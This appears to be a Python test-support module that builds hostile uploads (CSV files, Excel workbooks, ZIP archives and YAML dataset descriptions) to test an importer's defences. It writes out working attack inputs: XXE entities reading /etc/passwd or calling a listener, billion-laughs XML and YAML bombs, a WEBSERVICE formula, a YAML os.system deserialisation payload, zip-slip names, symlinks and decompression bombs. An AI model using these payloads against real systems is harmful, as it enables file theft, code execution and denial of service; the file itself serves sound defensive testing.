"""Files of somebody who means harm: workbooks, CSV, archives and their descriptions."""

import csv
import io
import random
import re
import stat
import zipfile
from collections.abc import Callable, Iterator, Sequence

import openpyxl

from tests.support.hostile.strings import ALL, LISTENER

HEADERS = ("龙头企业", "配套企业", "物料", "联系人", "电话")
NOT_IN_CELLS = re.compile("[\0-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
MANGLED = 40
"""Good files in which bytes were changed."""

DESCRIPTION = "id: one\ntitle: One\nas_of: 2020-02-12\nsource: x\n"
LAUGHS = 12
"""Levels of a description whose texts grow tenfold with each."""


def files(address: str) -> Iterator[tuple[str, str, bytes]]:
    """What each is, its name, and its content; ``address``: of the listener."""
    strings = [string.replace(LISTENER, address) for _, string in ALL]
    yield from _delimited(strings)
    yield from _workbooks(strings, address)
    yield from _archives(strings, address)
    yield from _named(strings)


def _delimited(strings: Sequence[str]) -> Iterator[tuple[str, str, bytes]]:
    text = io.StringIO()
    writer = csv.writer(text)
    writer.writerow(HEADERS)
    writer.writerows([string, string[::-1], string, string, string] for string in strings)
    yield "strings in cells", "list.csv", text.getvalue().encode("utf-8", "surrogatepass")
    good = (",".join(HEADERS) + "\n甲,乙,铜,张,1\n").encode()
    for number, string in enumerate(strings):
        if number % 10 == 0:
            head = string.encode("utf-8", "surrogatepass")
            yield "a string as a header", "list.csv", head + b"," + good
    yield "NULs", "list.csv", good.replace("乙".encode(), b"\0")
    yield "an open quotation", "list.csv", good + b'"' * 3 + b"x" * 100_000
    yield "many columns", "list.csv", good + b"," * 200_000 + b"\n"
    yield "a long line", "list.csv", good + b"x" * 900_000
    yield "many lines", "list.csv", good + b"\n" * 300_000
    yield "no UTF-8", "list.csv", good + bytes(range(128, 256)) * 40
    for encoding in ("utf-16", "utf-32", "utf-7", "gb18030", "big5"):
        yield f"in {encoding}", "list.csv", good.decode().encode(encoding, "replace")
    yield "half a UTF-16", "list.csv", good.decode().encode("utf-16")[:-1]
    yield "another kind", "list.csv", _workbook([["x"]])
    yield "markup", "list.csv", b"<html><table><tr><td>x</td></tr></table></html>"


def _workbook(rows: Sequence[Sequence[str]]) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for line in (HEADERS, *rows):
        sheet.append([NOT_IN_CELLS.sub("", cell)[:32_767] for cell in line])
    file = io.BytesIO()
    book.save(file)
    return file.getvalue()


def _changed(content: bytes, part: str, change: Callable[[bytes], bytes]) -> bytes:
    """A workbook with one of its parts changed, or added."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(made, "w", 8) as new:
        for member in old.infolist():
            read = old.read(member)
            new.writestr(member.filename, change(read) if member.filename == part else read)
        if part not in old.namelist():
            new.writestr(part, change(b""))
    return made.getvalue()


def _workbooks(strings: Sequence[str], address: str) -> Iterator[tuple[str, str, bytes]]:
    good = _workbook([["甲", "乙", "铜", "张", "1"]])
    yield "strings in cells", "list.xlsx", _workbook([[s] * 5 for s in strings])
    entities = {
        "an external entity": f'<!DOCTYPE x [<!ENTITY e SYSTEM "http://{address}/x">]>',
        "an external subset": f'<!DOCTYPE x SYSTEM "http://{address}/x.dtd">',
        "an entity of the machine": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        "a parameter entity": f'<!DOCTYPE x [<!ENTITY % e SYSTEM "http://{address}/x"> %e;]>',
        "a billion laughs": _laughing_entities(),
    }
    sheet = "xl/worksheets/sheet1.xml"
    for part in (sheet, "xl/workbook.xml", "xl/styles.xml", "[Content_Types].xml"):
        for what, declared in entities.items():
            yield f"{what} in {part}", "list.xlsx", _changed(good, part, _declares(declared))
    link = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/externalLink" Target="http://{address}/x.xlsx" TargetMode="External"/>'
        "</Relationships>"
    ).encode()
    rels = "xl/worksheets/_rels/sheet1.xml.rels"
    yield "a link to elsewhere", "list.xlsx", _changed(good, rels, lambda _: link)
    web = f'<c r="A3"><f>WEBSERVICE("http://{address}/x")</f></c>'.encode()
    yield (
        "a formula that asks",
        "list.xlsx",
        _changed(good, sheet, lambda text: text.replace(b"</row>", web + b"</row>", 1)),
    )
    far = b'<row r="1048576"><c r="XFD1048576" t="str"><v>x</v></c></row></sheetData>'
    yield (
        "a cell far away",
        "list.xlsx",
        _changed(good, sheet, lambda text: text.replace(b"</sheetData>", far)),
    )
    yield "a bomb", "list.xlsx", _changed(good, sheet, lambda _: b"<x>" + b" " * (40 << 20))
    yield "names that climb", "list.xlsx", _changed(good, "../../../tmp/evil.xml", lambda _: b"x")
    yield "no workbook", "list.xlsx", b"PK\3\4" + b"\0" * 100
    yield "of another kind", "list.xls", good
    yield "no compound file", "list.xls", bytes.fromhex("d0cf11e0a1b11ae1") + b"\xff" * 4_000
    chance = random.Random(19)
    for _ in range(MANGLED):
        content = bytearray(good)
        for _ in range(chance.randint(1, 12)):
            content[chance.randrange(len(content))] = chance.randrange(256)
        yield "mangled", "list.xlsx", bytes(content)


def _declares(declared: str) -> Callable[[bytes], bytes]:
    """Puts a declaration before a part's root, and a use of it into its first element."""

    def change(text: bytes) -> bytes:
        root = re.search(rb"<[A-Za-z]", text)
        at = root.start() if root else 0
        whole = text[:at] + declared.encode() + text[at:]
        return re.sub(rb">(?=[^<>]+</)", b">&e;", whole, count=1)

    return change


def _laughing_entities() -> str:
    lines = ['<!ENTITY e0 "ha">']
    lines += [f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, LAUGHS)]
    return f"<!DOCTYPE x [{''.join(lines)}<!ENTITY e '&e{LAUGHS - 1};'>]>"


def _zipped(members: Sequence[tuple[str | zipfile.ZipInfo, bytes]]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(name, content, zipfile.ZIP_DEFLATED)
    return file.getvalue()


def descriptions(address: str) -> Iterator[tuple[str, str]]:
    """What ``dataset.yaml`` may hold."""
    laughs = ["a0: &a0 [ha, ha]"]
    laughs += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, LAUGHS)]
    laughing = "\n".join(laughs)
    yield "laughs under keys", f"{DESCRIPTION}{laughing}\n"
    yield "laughs in the day", f"{laughing}\nid: one\ntitle: One\nas_of: *a{LAUGHS - 1}\n"
    yield "laughs in the title", f"{laughing}\nid: one\ntitle: *a{LAUGHS - 1}\nas_of: 2020-02-12\n"
    yield "a loop", f"{DESCRIPTION}note: &n [*n]\n"
    yield "deep", f"{DESCRIPTION}note: {'[' * 20_000}\n"
    yield "deeply closed", f"{DESCRIPTION}note: {'[' * 3_000}{']' * 3_000}\n"
    yield "an object", f"{DESCRIPTION}note: !!python/object/apply:os.system [id]\n"
    yield "a module", f"{DESCRIPTION}note: !!python/module:os\n"
    yield "a list", "[1, 2]\n"
    yield "a list as id", "id: [1]\ntitle: {a: 1}\nas_of: {}\nsource: [[]]\n"
    yield "a large number", f"{DESCRIPTION}note: {'9' * 20_000}\n"
    yield "sixty-based", f"{DESCRIPTION}note: {':'.join(['59'] * 2_000)}\n"
    yield "keys of other kinds", f"{DESCRIPTION}1: 2\nnull: 3\n2020-01-01: 4\n? [a]\n: 5\n"
    yield "no such day", "id: one\ntitle: One\nas_of: 2020-02-30\n"
    yield "a path as id", "id: ../../evil\ntitle: One\nas_of: 2020-02-12\n"
    yield "controls", 'id: one\ntitle: "\\e[31m\\0\\uD800"\nas_of: 2020-02-12\n'
    yield "an address", f"id: one\ntitle: One\nas_of: 2020-02-12\nsource: http://{address}/x\n"


def _archives(strings: Sequence[str], address: str) -> Iterator[tuple[str, str, bytes]]:
    for what, text in descriptions(address):
        content = _zipped([("d/dataset.yaml", text.encode("utf-8", "surrogatepass"))])
        yield f"description: {what}", "folder.zip", content
    good = [("d/dataset.yaml", DESCRIPTION.encode())]
    table = b"id,name\na,b\n"
    for name in (
        "../evil.csv",
        "/tmp/evil.csv",
        "..\\evil.csv",
        "d/../../evil.csv",
        "C:\\evil.csv",
    ):
        yield f"a member {name}", "folder.zip", _zipped([*good, (name, table)])
    linked = zipfile.ZipInfo("d/enterprises.csv")
    linked.external_attr = (stat.S_IFLNK | 0o777) << 16
    yield "a link to a file", "folder.zip", _zipped([*good, (linked, b"/etc/passwd")])
    yield "a bomb", "folder.zip", _zipped([*good, ("d/enterprises.csv", b"x" * (40 << 20))])
    many = [(f"d/x{n}.csv", table) for n in range(1_000)]
    yield "many members", "folder.zip", _zipped([*good, *many])
    yield "twice the same", "folder.zip", _zipped([*good, ("e/dataset.yaml", b"id: two\n")])
    cells = io.StringIO()
    writer = csv.writer(cells)
    writer.writerow(("id", "name"))
    writer.writerows((f"e{number}", string) for number, string in enumerate(strings))
    writer.writerows((string, string) for string in strings)
    rows = cells.getvalue().encode("utf-8", "surrogatepass")
    yield "strings in a table", "folder.zip", _zipped([*good, ("d/enterprises.csv", rows)])
    yield "a damaged one", "folder.zip", _zipped(good)[:-10]
    yield "in itself", "folder.zip", _zipped([("folder.zip", _zipped(good))])


def _named(strings: Sequence[str]) -> Iterator[tuple[str, str, bytes]]:
    """A good list under each name."""
    good = (",".join(HEADERS) + "\n甲,乙,铜,张,1\n").encode()
    for string in strings:
        yield "a name", f"{string}.csv", good
    yield "a name", "../../../tmp/evil.zip", _zipped([("d/dataset.yaml", DESCRIPTION.encode())])
